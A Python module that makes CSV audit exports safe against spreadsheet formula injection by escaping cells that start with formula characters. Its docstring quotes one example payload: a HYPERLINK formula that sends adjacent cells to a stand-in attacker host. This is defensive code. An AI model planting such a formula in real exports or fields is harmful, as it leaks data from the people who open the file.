"""CSV exports that a spreadsheet opens safely.

A cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return, which some
spreadsheets skip before reading a formula) is run as a formula by Excel, LibreOffice and
Google Sheets: a department called ``=HYPERLINK("https://evil.example/?"&A1, "open")`` would
send the neighbouring cells away when an administrator opens the audit export. Every export
writes through :func:`csv_writer`, which prefixes such a cell with an apostrophe (OWASP's
advice): the spreadsheet shows the text as typed, and nothing runs.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any, Protocol

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


class _Writable(Protocol):
    def write(self, value: str, /) -> Any: ...


def safe_cell(value: Any) -> Any:
    """``value``, with an apostrophe in front when a spreadsheet would read a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class SafeWriter:
    """``csv.writer`` whose every text cell goes through :func:`safe_cell`."""

    def __init__(self, target: _Writable, **options: Any) -> None:
        self._writer = csv.writer(target, **options)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([safe_cell(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(target: _Writable, **options: Any) -> SafeWriter:
    return SafeWriter(target, **options)
